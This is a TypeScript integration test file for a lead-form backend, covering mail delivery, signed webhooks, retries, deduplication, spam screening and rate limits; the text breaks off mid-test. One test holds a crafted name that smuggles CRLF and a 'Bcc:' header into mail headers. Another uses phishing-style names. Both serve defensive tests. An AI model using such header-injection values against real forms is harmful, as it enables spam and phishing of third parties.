import { createConsentService } from "../../core/consent/consent-records.server.ts";
import { createHmac } from "node:crypto";
import { asc, eq, inArray, sql } from "drizzle-orm";
import type { AddressObject, ParsedMail } from "mailparser";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { emailsEn } from "../../content/emails/en.ts";
import { emailsId } from "../../content/emails/id.ts";
import { openDatabase, type Database, type DatabaseHandle } from "../../core/db/database.server.ts";
import { leads, newsletterSubscribers, outbox, outboxAttempts, rateLimitHits } from "../../core/db/schema.ts";
import { demoSlots } from "../../core/leads/schemas/demo-slots.ts";
import { sanitizeMessageHtml } from "../../core/leads/schemas/rich-text.server.ts";
import { fill } from "../../core/i18n/fill.ts";
import { formWords } from "../../core/i18n/form-words.ts";
import { createDownloadLinks } from "../../core/leads/download-links.server.ts";
import type { Attribution, LeadInput } from "../../core/leads/lead.ts";
import { createLeadService, type LeadSettings, type Screening } from "../../core/leads/store/leads.server.ts";
import { createMailer, type Mailer } from "../../core/mail/mailer.server.ts";
import {
  createOutboxWorker,
  signatureHeader,
  type OutboxWorker,
} from "../../core/outbox/outbox-worker.server.ts";
import { createRateLimiter, formRateLimits, formRateRules } from "../../core/limits/rate-limit.server.ts";
import { createBotCheck, type BotCheck, type BotVerdict } from "../../core/leads/recaptcha.server.ts";
import { createConfirmationLinks } from "../../core/newsletter/confirmation-links.server.ts";
import { createNewsletterService } from "../../core/newsletter/subscribers.server.ts";
import { forget } from "../../scripts/ops/leads.ts";
import { pathTo } from "../../core/routing/paths.ts";
import { action as contactAction } from "../../app/routes/contact.tsx";
import { action as demoAction } from "../../app/routes/request-demo.tsx";
import { action as newsletterAction } from "../../app/routes/newsletter.tsx";
import type { Services } from "../../core/services/context.ts";
import { startHttpFixture, type HttpFixture, type RecordedRequest } from "../support/http-fixture.ts";
import { memoryLog } from "../support/memory-log.ts";
import { freePort, startPostgres, type PostgresServer } from "../../scripts/processes/postgres-server.ts";
import { postToAction } from "../support/route-action.ts";
import { startSmtpServer, type TestSmtpServer } from "../support/smtp-server.ts";
import { sleepUntil } from "../../scripts/processes/wait.ts";

// ---------------------------------------------------------------------------------------------------------
// Servers shared by the whole file: a real SMTP server, a webhook receiver and a fake reCAPTCHA endpoint.

let smtp: TestSmtpServer;
let hooks: HttpFixture;
let siteVerify: HttpFixture;

beforeAll(async () => {
  smtp = await startSmtpServer();
  hooks = await startHttpFixture({ status: 200, json: { ok: true } });
  siteVerify = await startHttpFixture({ status: 200, json: { success: true } });
});

afterAll(async () => {
  await smtp?.stop();
  await hooks?.stop();
  await siteVerify?.stop();
});

const siteUrl = "https://regu.example";
const salesEmail = "sales@regu.example";
const sender = "Regu <no-reply@regu.example>";
const secrets = { registration: "registration-secret-3f9a", crm: "crm-secret-81c2" };
const registrationPath = "/hooks/registration";
const crmPath = "/hooks/crm";

const leadSettings = (extra: Partial<LeadSettings> = {}): LeadSettings => ({
  siteUrl,
  salesEmail,
  registrationWebhookUrl: `${hooks.url}${registrationPath}`,
  ...extra,
});

const newScreening: Screening = { status: "new", score: 0.9 };

// ---------------------------------------------------------------------------------------------------------
// Mail helpers.

function addressesOf(field: AddressObject | AddressObject[] | undefined): string[] {
  const objects = Array.isArray(field) ? field : field ? [field] : [];
  return objects.flatMap((object) => object.value.map((address) => address.address ?? ""));
}

const mailsTo = (address: string): ParsedMail[] =>
  smtp.messages.filter((mail) => addressesOf(mail.to).includes(address));

/** The value, or a failed test when it is missing. */
function must<T>(value: T | null | undefined, what: string): T {
  if (value === null || value === undefined) throw new Error(`missing: ${what}`);
  return value;
}

function onlyMailTo(address: string): ParsedMail {
  const found = mailsTo(address);
  expect(found, `mails to ${address}`).toHaveLength(1);
  return found[0] as ParsedMail;
}

function headerLine(mail: ParsedMail, key: string): string | undefined {
  return mail.headerLines.find((line) => line.key === key.toLowerCase())?.line;
}

const htmlOf = (mail: ParsedMail): string => (typeof mail.html === "string" ? mail.html : "");
const escapeHtml = (value: string) =>
  value.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

function expectSignature(request: RecordedRequest, secret: string): void {
  const expected = `sha256=${createHmac("sha256", secret).update(request.raw).digest("hex")}`;
  expect(request.headers[signatureHeader.toLowerCase()]).toBe(expected);
}

// ---------------------------------------------------------------------------------------------------------
// Leads, with realistic Indonesian and Malaysian visitors.

const attribution: Attribution = {
  utm_source: "google",
  utm_medium: "cpc",
  utm_campaign: "absensi-online-2025",
  utm_term: "aplikasi absensi karyawan",
  utm_content: "iklan-teks-a",
  landingPage: "/fitur/absensi-online",
  referrer: "https://www.google.co.id/",
  page: "/minta-demo",
};

type InputOf<T extends LeadInput["type"]> = Extract<LeadInput, { type: T }>;

/** A unique suffix per call, so no test's lead is a duplicate of another's. */
let serial = 0;
const unique = (local: string, domain: string) => `${local}.${Date.now().toString(36)}${++serial}@${domain}`;

function demoLead(overrides: Partial<InputOf<"demo">> = {}): InputOf<"demo"> {
  return {
    type: "demo",
    lang: "id",
    name: "Siti Rahmawati",
    email: unique("siti.rahmawati", "sumbermakmur-logistik.co.id"),
    phone: "+62 812-3456-7890",
    company: "PT Sumber Makmur Logistik",
    details: {
      companySize: "51-200",
      country: "ID",
      interests: ["time", "overtime", "payroll"],
      slot: "2030-03-12T03:00:00.000Z",
      timeZone: "Asia/Jakarta",
    },
    marketingConsent: true,
    attribution,
    ...overrides,
  };
}

function registrationLead(overrides: Partial<InputOf<"registration">> = {}): InputOf<"registration"> {
  return {
    type: "registration",
    lang: "en",
    name: "Ahmad Faizal bin Rahman",
    email: unique("faizal", "kedaikopi-nusantara.com.my"),
    phone: "+60 12-345 6789",
    company: "Kedai Kopi Nusantara & Rakan Sdn. Bhd.",
    details: { companySize: "11-50", country: "MY", termsAcceptedAt: "2025-06-02T08:15:00.000Z" },
    marketingConsent: false,
    attribution: { page: "/register", utm_source: "facebook", utm_medium: "social" },
    ...overrides,
  };
}

const contactMessage = sanitizeMessageHtml(
  "<p>Selamat siang, tim Regu.</p><p>Kami ingin menanyakan <b>faktur bulan Mei</b> yang belum kami terima.</p>" +
    "<ul><li>Nomor pelanggan: RG-20431</li><li>Cabang: Solo dan Semarang</li></ul>",
  "html",
);

function contactLead(overrides: Partial<InputOf<"contact">> = {}): InputOf<"contact"> {
  return {
    type: "contact",
    lang: "id",
    name: "Dewi Lestari",
    email: unique("dewi.lestari", "batiksemar.co.id"),
    phone: "",
    company: "Batik Semar Surakarta",
    details: { topic: "billing", messageHtml: contactMessage.html, messageText: contactMessage.text },
    marketingConsent: false,
    attribution: { page: "/kontak" },
    ...overrides,
  };
}

function resourceLead(overrides: Partial<InputOf<"resource">> = {}): InputOf<"resource"> {
  return {
    type: "resource",
    lang: "en",
    name: "Nur Aisyah binti Ismail",
    email: unique("aisyah", "klinik-sejahtera.my"),
    phone: "+60 19-876 5432",
    company: "Klinik Sejahtera Sdn. Bhd.",
    details: {
      slug: "month-end-attendance-and-payroll-checklist",
      title: "Month-end attendance and payroll checklist",
    },
    marketingConsent: true,
    attribution: { page: "/download-resources/month-end-attendance-and-payroll-checklist" },
    ...overrides,
  };
}

/** The sales mail names countries, sizes, interests and topics as the English form does. */
const words = formWords.en;

interface LeadCase {
  label: string;
  make(): LeadInput;
  channels: string[];
  salesSubject(input: LeadInput): string;
  /** Lines the sales mail's text must hold, beyond the common ones. */
  salesLines(input: LeadInput): string[];
  visitorSubject(input: LeadInput): string;
  /** What the visitor's confirmation must say, in the lead's language. */
  visitorPhrases(input: LeadInput): string[];
}

const leadCases: LeadCase[] = [
  {
    label: "demo request (Indonesian)",
    make: () => demoLead(),
    channels: ["sales-mail", "visitor-mail"],
    salesSubject: (input) =>
      `New demo request: ${input.name}, ${input.company} (${words.countries.ID}, 51-200)`,
    salesLines: () => [
      `Country: ${words.countries.ID}`,
      `Company size: ${words.companySizes["51-200"]}`,
      `Interested in: ${(["time", "overtime", "payroll"] as const).map((key) => words.interests[key]).join(", ")}`,
      // 03:00 UTC is 10:00 in Jakarta.
      "Slot, office time (Asia/Jakarta): Tuesday, 12 March 2030, 10:00–10:30",
    ],
    visitorSubject: () => emailsId.demo.subject,
    visitorPhrases: () => ["Halo Siti,", "Terima kasih", "10.00–10.30", "Salam hangat,"],
  },
  {
    label: "registration (English)",
    make: () => registrationLead(),
    channels: ["sales-mail", "visitor-mail", "registration-webhook"],
    salesSubject: (input) =>
      `New trial registration: ${input.name}, ${input.company} (${words.countries.MY}, 11-50)`,
    salesLines: () => [
      `Country: ${words.countries.MY}`,
      `Company size: ${words.companySizes["11-50"]}`,
      "Terms accepted (UTC): ",
    ],
    visitorSubject: () => emailsEn.registration.subject,
    visitorPhrases: () => ["Hi Ahmad,", "Thanks for registering with Regu.", "Warm regards,"],
  },
  {
    label: "contact message (Indonesian)",
    make: () => contactLead(),
    channels: ["sales-mail", "visitor-mail"],
    salesSubject: (input) => `New contact message: ${input.name}, ${input.company} (${words.topics.billing})`,
    salesLines: () => [
      `Topic: ${words.topics.billing}`,
      ...contactMessage.text
        .split("\n")
        .filter((line) => line.trim() !== "")
        .map((line) => `> ${line}`),
    ],
    visitorSubject: () => emailsId.contact.subject,
    visitorPhrases: () => ["Halo Dewi,", "Terima kasih", formWords.id.topics.billing],
  },
  {
    label: "resource download (English)",
    make: () => resourceLead(),
    channels: ["sales-mail", "visitor-mail"],
    salesSubject: (input) =>
      `New resource download: ${input.name}, ${input.company} (Month-end attendance and payroll checklist)`,
    salesLines: () => [
      "Resource: Month-end attendance and payroll checklist",
      `Resource page: ${siteUrl}/download-resources/month-end-attendance-and-payroll-checklist`,
    ],
    visitorSubject: () =>
      fill(emailsEn.resource.subject, { title: "Month-end attendance and payroll checklist" }),
    visitorPhrases: () => ["Hi Nur,", "Month-end attendance and payroll checklist"],
  },
];

// ---------------------------------------------------------------------------------------------------------

interface Backend {
  name: string;
  /** `second` is another handle on the same database: a second site instance. */
  open(): Promise<{ database: DatabaseHandle; second: DatabaseHandle; stop(): Promise<void> }>;
}

const backends: Backend[] = [
  {
    name: "embedded PGlite",
    async open() {
      // PGlite serves one process: a "second instance" shares the handle.
      const database = await openDatabase({ dataDir: "memory://" });
      return { database, second: database, stop: () => database.close() };
    },
  },
  {
    name: "PostgreSQL server",
    async open() {
      const server: PostgresServer = await startPostgres();
      const database = await openDatabase({ url: server.url, dataDir: "unused" });
      const second = await openDatabase({ url: server.url, dataDir: "unused" });
      return {
        database,
        second,
        async stop() {
          await second.close();
          await database.close();
          await server.stop();
        },
      };
    },
  },
];

describe.each(backends)("lead backend on $name", (backend) => {
  let database: DatabaseHandle;
  let second: DatabaseHandle;
  let stopDatabase: () => Promise<void>;
  let db: Database;
  let mailer: Mailer;
  const workerLog = memoryLog();

  const workerOn = (on: Database): OutboxWorker =>
    createOutboxWorker(on, {
      mailer,
      webhookSecrets: secrets,
      retryBaseMs: 50,
      maxAttempts: 5,
      pollMs: 50,
      log: workerLog,
    });

  const outboxOf = (leadId: number) =>
    db.select().from(outbox).where(eq(outbox.leadId, leadId)).orderBy(asc(outbox.id));

  const attemptsOf = (messageIds: number[]) =>
    messageIds.length === 0
      ? Promise.resolve([])
      : db
          .select()
          .from(outboxAttempts)
          .where(inArray(outboxAttempts.messageId, messageIds))
          .orderBy(asc(outboxAttempts.id));

  beforeAll(async () => {
    const opened = await backend.open();
    database = opened.database;
    second = opened.second;
    stopDatabase = opened.stop;
    db = database.db;
    mailer = createMailer(smtp.url, sender);
  });

  afterAll(async () => {
    mailer?.close();
    await stopDatabase?.();
  });

  beforeEach(async () => {
    await db.delete(outboxAttempts);
    await db.delete(outbox);
    await db.delete(leads);
    await db.delete(newsletterSubscribers);
    await db.delete(rateLimitHits);
    smtp.messages.length = 0;
    smtp.envelopes.length = 0;
    hooks.requests.length = 0;
    hooks.respond({ status: 200, json: { ok: true } });
    workerLog.lines.length = 0;
  });

  afterEach(async () => {
    // A test that stopped SMTP and failed half-way must not take the server down for the next one.
    await smtp.start();
  });

  it.each(leadCases)(
    "stores a $label with its outbox rows in one transaction and delivers them",
    async (leadCase) => {
      const input = leadCase.make();
      const service = createLeadService(db, leadSettings());
      const stored = await service.submit(input, newScreening);
      expect(stored.duplicate).toBe(false);

      const rows = await db.select().from(leads).where(eq(leads.email, input.email));
      expect(rows).toHaveLength(1);
      const lead = must(rows[0], "the lead row");
      expect(lead).toMatchObject({
        id: stored.id,
        type: input.type,
        status: "new",
        lang: input.lang,
        name: input.name,
        company: input.company,
        phone: input.phone,
        marketingConsent: input.marketingConsent,
        recaptchaScore: 0.9,
      });
      expect(lead.details).toEqual(input.details);
      expect(lead.attribution).toEqual(input.attribution);

      const queued = await outboxOf(stored.id);
      expect(queued.map((row) => row.channel)).toEqual(leadCase.channels);
      for (const row of queued) {
        expect(row).toMatchObject({ status: "pending", attempts: 0, subjectEmail: input.email });
        // now() is the transaction's start: the same instant for the lead and its messages.
        expect(row.createdAt.getTime()).toBe(lead.createdAt.getTime());
      }

      const worker = workerOn(db);
      expect(await worker.runOnce()).toBe(leadCase.channels.length);
      await smtp.waitFor(2);
      expect(smtp.messages).toHaveLength(2);

      // The sales team's notification: to sales, Reply-To the visitor, every field.
      const salesMail = onlyMailTo(salesEmail);
      expect(addressesOf(salesMail.from)).toEqual(["no-reply@regu.example"]);
      expect(addressesOf(salesMail.replyTo)).toEqual([input.email]);
      expect(salesMail.subject).toBe(leadCase.salesSubject(input));
      const salesText = salesMail.text ?? "";
      const language = input.lang === "id" ? "Indonesian" : "English";
      const commonLines = [
        `Name: ${input.name}`,
        `Email: ${input.email}`,
        `Phone: ${input.phone === "" ? "(not given)" : input.phone}`,
        `Company: ${input.company}`,
        `Language: ${language}`,
        `Marketing emails: ${input.marketingConsent ? "Yes, opted in" : "No"}`,
        `Form page: ${input.attribution.page}`,
        `Lead ID: ${stored.id}`,
        "Status: New",
        "Received (UTC): ",
        ...(
          [
            "utm_source",
            "utm_medium",
            "utm_campaign",
            "utm_term",
            "utm_content",
            "landingPage",
            "referrer",
          ] as const
        )
          .map((key) => input.attribution[key])
          .filter((value): value is string => value !== undefined)
          .map((value) => `: ${value}`),
      ];
      for (const line of [...commonLines, ...leadCase.salesLines(input)]) {
        expect(salesText, `sales mail text holds "${line}"`).toContain(line);
      }
      const salesHtml = htmlOf(salesMail);
      expect(salesHtml).toContain(escapeHtml(input.company));
      expect(salesHtml).toContain(escapeHtml(input.email));

      // The visitor's confirmation, in the language of the form, as HTML and as text.
      const visitorMail = onlyMailTo(input.email);
      expect(addressesOf(visitorMail.from)).toEqual(["no-reply@regu.example"]);
      expect(visitorMail.subject).toBe(leadCase.visitorSubject(input));
      const visitorText = visitorMail.text ?? "";
      const visitorHtml = htmlOf(visitorMail);
      expect(visitorText.length).toBeGreaterThan(100);
      expect(visitorHtml).toContain(`<html lang="${input.lang}"`);
      for (const phrase of leadCase.visitorPhrases(input)) {
        expect(visitorText, `visitor text holds "${phrase}"`).toContain(phrase);
        expect(visitorHtml, `visitor HTML holds "${phrase}"`).toContain(escapeHtml(phrase));
      }
      if (input.lang === "id") expect(visitorText).not.toContain("Thank you");
      else expect(visitorText).not.toContain("Terima kasih");
      // The address is unconfirmed: nothing the visitor wrote goes back to it but the first name.
      const written = [input.company, input.phone, input.email, input.name.split(" ").slice(1).join(" ")];
      if (input.type === "contact") written.push(...input.details.messageText.split("\n"));
      for (const value of written.filter((item) => item.trim() !== "")) {
        expect(visitorText, `visitor text holds "${value}"`).not.toContain(value);
        expect(visitorHtml, `visitor HTML holds "${value}"`).not.toContain(escapeHtml(value));
      }

      if (input.type === "registration") {
        const request = must((await hooks.waitFor(1))[0], "the registration webhook request");
        expect(hooks.requests).toHaveLength(1);
        expect(request).toMatchObject({ method: "POST", path: registrationPath });
        expect(request.headers["content-type"]).toBe("application/json");
        expectSignature(request, secrets.registration);
        expect(JSON.parse(request.body)).toEqual({
          event: "registration.created",
          leadId: stored.id,
          name: input.name,
          email: input.email,
          phone: input.phone,
          company: input.company,
          companySize: "11-50",
          country: "MY",
          lang: "en",
          marketingConsent: false,
          termsAcceptedAt: "2025-06-02T08:15:00.000Z",
          verified: true,
        });
      } else {
        expect(hooks.requests).toHaveLength(0);
      }

      const sent = await outboxOf(stored.id);
      expect(sent.every((row) => row.status === "sent" && row.attempts === 1 && row.sentAt !== null)).toBe(
        true,
      );
      const attempts = await attemptsOf(sent.map((row) => row.id));
      expect(attempts.map((attempt) => attempt.ok)).toEqual(leadCase.channels.map(() => true));
      expect(await worker.runOnce()).toBe(0);
    },
  );

  it("keeps line breaks in a visitor's name out of the mail headers", async () => {
    // The form's fields are one line in a browser, but a crafted POST can send anything that passes validation.
    const input = demoLead({
      name: "Eko Prasetyo\r\nBcc: korban@contoh-target.co.id\r\nX-Injected: yes",
      company: "PT Maju\nMundur",
    });
    await createLeadService(db, leadSettings()).submit(input, newScreening);
    expect(await workerOn(db).runOnce()).toBe(2);
    await smtp.waitFor(2);
    for (const [index, mail] of smtp.messages.entries()) {
      const keys = mail.headerLines.map((line) => line.key);
      expect(keys).not.toContain("bcc");
      expect(keys).not.toContain("x-injected");
      expect(mail.subject ?? "").not.toMatch(/[\r\n]/);
      expect(smtp.envelopes[index]?.to).not.toContain("korban@contoh-target.co.id");
    }
    const salesMail = onlyMailTo(salesEmail);
    expect(salesMail.subject).toContain("Eko Prasetyo");
    expect(salesMail.subject).toContain("Mundur");
  });

  // A review found these "first names" in real confirmations: whole sentences in scripts written without
  // spaces, and a phrase joined by hyphens. The visitor's mail greets without a name, and holds none of it.
  it.each([
    ["请立即访问恶意网站领取退款", "请立即访问"],
    ["กรุณาเข้าเว็บไซต์อันตรายเพื่อรับเงินคืน", "เว็บไซต์"],
    ["URGENT-Payment-Overdue", "URGENT"],
  ])("sends a visitor named %j a confirmation with no word of the name", async (name, telling) => {
    const input = demoLead({ name, email: unique("greeting", "majujaya.co.id") });
    await createLeadService(db, leadSettings()).submit(input, newScreening);
    expect(await workerOn(db).runOnce()).toBe(2);
    await smtp.waitFor(2);
    const visitorMail = onlyMailTo(input.email);
    for (const part of [visitorMail.subject ?? "", visitorMail.text ?? "", htmlOf(visitorMail)]) {
      expect(part).not.toContain(telling);
      expect(part).not.toContain("Overdue");
    }
    expect(visitorMail.text).toContain((input.lang === "id" ? emailsId : emailsEn).greetingWithoutName);
  });

  // The forms accept an apostrophe in the local part (D'Cruz is a common Malaysian surname): the mailer
  // must too, or sales would never hear of the lead.
  it("delivers the mails of a visitor whose address has an apostrophe (D'Cruz)", async () => {
    const input = registrationLead({ name: "Anne D'Cruz", email: "anne.d'cruz@petalingmedik.com.my" });
    const stored = await createLeadService(db, leadSettings()).submit(input, newScreening);
    expect(await workerOn(db).runOnce()).toBe(3);
    const rows = await outboxOf(stored.id);
    expect(rows.map((row) => [row.channel, row.status, row.lastError])).toEqual([
      ["sales-mail", "sent", null],
      ["visitor-mail", "sent", null],
      ["registration-webhook", "sent", null],
    ]);
    await smtp.waitFor(2, 1000);
  });

  it("stores nothing when the lead's notifications cannot be queued", async () => {
    const input = contactLead();
    await db.execute(sql`alter table outbox rename to outbox_away`);
    try {
      await expect(createLeadService(db, leadSettings()).submit(input, newScreening)).rejects.toThrow();
    } finally {
      await db.execute(sql`alter table outbox_away rename to outbox`);
    }
    expect(await db.select().from(leads).where(eq(leads.email, input.email))).toHaveLength(0);
  });

  it(
    "keeps mail queued while SMTP is down and sends it once the server is back",
    { tags: ["smoke"] },
    async () => {
      const input = demoLead({ name: "Bambang Sutrisno", company: "CV Sinar Jaya Teknik" });
      const service = createLeadService(db, leadSettings());
      const worker = workerOn(db);

      await smtp.stop();
      const stored = await service.submit(input, newScreening);
      expect(await db.select().from(leads).where(eq(leads.id, stored.id))).toHaveLength(1);

      const before = Date.now();
      expect(await worker.runOnce()).toBe(2);
      const pending = await outboxOf(stored.id);
      expect(pending).toHaveLength(2);
      for (const row of pending) {
        expect(row).toMatchObject({ status: "pending", attempts: 1, lockedUntil: null });
        expect(row.lastError).toBeTruthy();
        // Retried after the first backoff (retryBaseMs), not right away.
        expect(row.nextAttemptAt.getTime()).toBeGreaterThanOrEqual(before + 50);
      }
      const failed = await attemptsOf(pending.map((row) => row.id));
      expect(failed).toHaveLength(2);
      expect(failed.every((attempt) => !attempt.ok && (attempt.error ?? "") !== "")).toBe(true);
      const retries = workerLog.lines.filter((line) => line.msg.includes("failed, attempt 1"));
      expect(retries.map((line) => line.level)).toEqual(["warn", "warn"]);
      expect(retries.map((line) => line.fields.messageId).sort()).toEqual(
        pending.map((row) => row.id).sort(),
      );
      expect(retries[0]?.fields).toMatchObject({ attempt: 1, status: "pending" });

      await smtp.start();
      await sleepUntil(new Date(Math.max(...pending.map((row) => row.nextAttemptAt.getTime()))));
      expect(await worker.runOnce()).toBe(2);
      await smtp.waitFor(2);
      expect(onlyMailTo(salesEmail).subject).toContain("Bambang Sutrisno");
      expect(onlyMailTo(input.email).subject).toBe(emailsId.demo.subject);

      const sent = await outboxOf(stored.id);
      expect(sent.map((row) => [row.status, row.attempts, row.lastError])).toEqual([
        ["sent", 2, null],
        ["sent", 2, null],
      ]);
      const attempts = await attemptsOf(sent.map((row) => row.id));
      expect(attempts.map((attempt) => attempt.ok).sort()).toEqual([false, false, true, true]);
    },
  );

  it("retries a CRM webhook that answered 500 and signs the exact body", async () => {
    hooks.respond({ status: 500, json: { error: "maintenance" } });
    const service = createLeadService(db, leadSettings({ crmWebhookUrl: `${hooks.url}${crmPath}` }));
    const worker = workerOn(db);
    // A non-ASCII company name: the signature covers the bytes sent, not a re-encoded string.
    const input = resourceLead({ name: "Wan Nurul Izzah", company: "Warisan Rempah — Kuala Terengganu" });
    const stored = await service.submit(input, newScreening);
    expect((await outboxOf(stored.id)).map((row) => row.channel)).toEqual([
      "sales-mail",
      "visitor-mail",
      "crm-webhook",
    ]);

    expect(await worker.runOnce()).toBe(3);
    await smtp.waitFor(2);
    const [firstTry] = await hooks.waitFor(1);
    expect(firstTry).toMatchObject({ method: "POST", path: crmPath });
    const crmRow = must(
      (await outboxOf(stored.id)).find((row) => row.channel === "crm-webhook"),
      "the CRM webhook row",
    );
    expect(crmRow).toMatchObject({ status: "pending", attempts: 1 });
    expect(crmRow.lastError).toContain("answered 500");
    expect((await attemptsOf([crmRow.id])).map((attempt) => attempt.ok)).toEqual([false]);

    hooks.respond({ status: 200, json: { received: true } });
    await sleepUntil(crmRow.nextAttemptAt);
    expect(await worker.runOnce()).toBe(1);
    expect(hooks.requests).toHaveLength(2);
    const retried = (await outboxOf(stored.id)).find((row) => row.channel === "crm-webhook");
    expect(retried).toMatchObject({ status: "sent", attempts: 2, lastError: null });
    expect((await attemptsOf([crmRow.id])).map((attempt) => attempt.ok)).toEqual([false, true]);

    for (const request of hooks.requests) {
      expect(request.headers["content-type"]).toBe("application/json");
      expectSignature(request, secrets.crm);
      expect(request.headers[signatureHeader.toLowerCase()]).not.toBe(
        `sha256=${createHmac("sha256", secrets.registration).update(request.raw).digest("hex")}`,
      );
    }
    const [firstBody, secondBody] = hooks.requests.map((request) => request.body);
    expect(secondBody).toBe(firstBody);
    const body = JSON.parse(firstBody ?? "") as {
      event: string;
      lead: { id: number; email: string; company: string; status: string; createdAt: string };
    };
    expect(body.event).toBe("lead.created");
    expect(body.lead).toMatchObject({
      id: stored.id,
      email: input.email,
      company: input.company,
      status: "new",
    });
    expect(new Date(body.lead.createdAt).toISOString()).toBe(body.lead.createdAt);
    // Only the webhook was tried again: the mails went once.
    expect(smtp.messages).toHaveLength(2);
  });

  it("gives up on a webhook after maxAttempts and marks it failed", async () => {
    hooks.respond({ status: 503 });
    const service = createLeadService(db, leadSettings({ crmWebhookUrl: `${hooks.url}${crmPath}` }));
    const worker = workerOn(db);
    const stored = await service.submit(contactLead({ name: "Rudi Hartono" }), newScreening);
    const crmId = must(
      (await outboxOf(stored.id)).find((row) => row.channel === "crm-webhook"),
      "the CRM webhook row",
    ).id;

    for (let attempt = 1; attempt <= 5; attempt++) {
      const [row] = await db.select().from(outbox).where(eq(outbox.id, crmId));
      await sleepUntil(must(row, "the CRM webhook row").nextAttemptAt);
      await worker.runOnce();
    }
    const [row] = await db.select().from(outbox).where(eq(outbox.id, crmId));
    expect(row).toMatchObject({ status: "failed", attempts: 5 });
    expect(await attemptsOf([crmId])).toHaveLength(5);
    expect(hooks.requests.filter((request) => request.path === crmPath)).toHaveLength(5);
    // A failed message waits for an operator.
    expect(await worker.runOnce()).toBe(0);
  });

  it("stores a double submit once and answers the second with duplicate: true", async () => {
    const input = contactLead({ name: "Putri Ayu Wulandari", company: "Koperasi Tani Makmur" });
    const service = createLeadService(db, leadSettings());
    const answers = await Promise.all([
      service.submit(input, newScreening),
      service.submit(input, newScreening),
    ]);
    expect(answers.map((answer) => answer.duplicate).sort()).toEqual([false, true]);
    const [firstAnswer, secondAnswer] = answers;
    const id = must(firstAnswer, "the first answer").id;
    expect(secondAnswer?.id).toBe(id);
    expect(await db.select().from(leads).where(eq(leads.email, input.email))).toHaveLength(1);
    expect((await outboxOf(id)).map((row) => row.channel)).toEqual(["sales-mail", "visitor-mail"]);
    expect(await db.select().from(outbox)).toHaveLength(2);

    // A retried request a moment later is the same lead too; another form by the same person is not.
    const retry = await service.submit(input, newScreening);
    expect(retry).toEqual({ id, duplicate: true });
    const another = await service.submit(
      { ...input, details: { ...input.details, topic: "support" } },
      newScreening,
    );
    expect(another.duplicate).toBe(false);
  });

  it("keeps spam without notifications and sends an unverified lead to sales only, flagged", async () => {
    const service = createLeadService(db, leadSettings());
    const worker = workerOn(db);

    const spamInput = demoLead({ name: "Cheap SEO Backlinks", company: "Backlink Empire" });
    const spam = await service.submit(spamInput, { status: "spam", reason: "honeypot filled" });
    const [spamRow] = await db.select().from(leads).where(eq(leads.id, spam.id));
    expect(spamRow).toMatchObject({ status: "spam", statusReason: "honeypot filled" });
    expect(await outboxOf(spam.id)).toHaveLength(0);

    const unverifiedInput = demoLead({ name: "Hendra Gunawan", company: "PT Karya Mandiri Sejahtera" });
    const unverified = await service.submit(unverifiedInput, {
      status: "unverified",
      reason: "reCAPTCHA unreachable",
    });
    expect((await outboxOf(unverified.id)).map((row) => row.channel)).toEqual(["sales-mail"]);

    expect(await worker.runOnce()).toBe(1);
    await smtp.waitFor(1);
    expect(smtp.messages).toHaveLength(1);
    const salesMail = onlyMailTo(salesEmail);
    expect(salesMail.subject?.startsWith("[Unverified]")).toBe(true);
    expect(salesMail.subject).toContain("Hendra Gunawan");
    expect(salesMail.text).toContain("Status: Unverified");
    expect(mailsTo(unverifiedInput.email)).toHaveLength(0);
    expect(mailsTo(spamInput.email)).toHaveLength(0);
  });

  it(
    "limits a form to 10 sends per IP in ten minutes, shared by every instance",
    { tags: ["smoke"] },
    async () => {
      const limiter = createRateLimiter(db);
      // One instant for the whole burst: it cannot straddle two windows.
      const now = new Date();
      const ip = "203.0.113.45";
      for (let index = 1; index <= formRateLimits.perIp; index++) {
        const verdict = await limiter.consume(
          formRateRules("demo", ip, `staf${index}@indofood-mitra.co.id`),
          now,
        );
        expect(verdict, `send ${index}`).toEqual({ ok: true });
      }
      const refused = await limiter.consume(
        formRateRules("demo", ip, "andi.wijaya@indofood-mitra.co.id"),
        now,
      );
      expect(refused.ok).toBe(false);
      const retryAfter = refused.ok ? 0 : refused.retryAfterSeconds;
      // The refusal names the limit that was hit (the metrics count by it), not the key.
      expect(refused.ok ? undefined : refused.limit).toBe("ip");
      expect(retryAfter).toBeGreaterThan(0);
      expect(retryAfter).toBeLessThanOrEqual(600);
      // Another visitor is not affected; nor is another form from the same IP.
      expect(
        await limiter.consume(formRateRules("demo", "203.0.113.46", "lina@indofood-mitra.co.id"), now),
      ).toEqual({
        ok: true,
      });
      expect(await limiter.consume(formRateRules("contact", ip, "lina@indofood-mitra.co.id"), now)).toEqual({
        ok: true,
      });

      // Two instances (on PostgreSQL: two connection pools) count together.
      const instanceA = createRateLimiter(database.db);
      const instanceB = createRateLimiter(second.db);
      const sharedIp = "198.51.100.23";
      for (let index = 1; index <= formRateLimits.perIp; index++) {
        const instance = index % 2 === 0 ? instanceB : instanceA;
        const verdict = await instance.consume(
          formRateRules("registration", sharedIp, `hr${index}@grab-mitra.my`),
          now,
        );
        expect(verdict, `send ${index}`).toEqual({ ok: true });
      }
      expect(
        (await instanceB.consume(formRateRules("registration", sharedIp, "hr11@grab-mitra.my"), now)).ok,
      ).toBe(false);
      expect(
        (await instanceA.consume(formRateRules("registration", sharedIp, "hr12@grab-mitra.my"), now)).ok,
      ).toBe(false);

      // One address: five sends an hour, whatever the IP.
      for (let index = 1; index <= formRateLimits.perEmail; index++) {
        expect(
          (
            await limiter.consume(
              formRateRules("resource", `192.0.2.${index}`, "yusuf@petronas-vendor.my"),
              now,
            )
          ).ok,
        ).toBe(true);
      }
      const byAddress = await limiter.consume(
        formRateRules("resource", "192.0.2.99", "yusuf@petronas-vendor.my"),
        now,
      );
      expect(byAddress.ok).toBe(false);
      expect(byAddress.ok ? 0 : byAddress.retryAfterSeconds).toBeLessThanOrEqual(3600);
      expect(byAddress.ok ? undefined : byAddress.limit).toBe("email");

      // The table holds hashes, never an IP or an address.
      const keys = (await db.select({ key: rateLimitHits.key }).from(rateLimitHits)).map((row) => row.key);
      expect(keys.length).toBeGreaterThan(0);
      for (const key of keys) {
        expect(key).not.toMatch(/203\.0\.113|198\.51\.100|@/);
      }
    },
  );

  it("stores a lead judged spam by the reCAPTCHA verify server with its score and notifies nobody", async () => {
    siteVerify.respond({
      status: 200,
      json: { success: true, score: 0.1, action: "demo", hostname: "localhost" },
    });
    const verdict = await recaptchaCheck().verify("token-from-browser", "demo", "36.72.18.9");
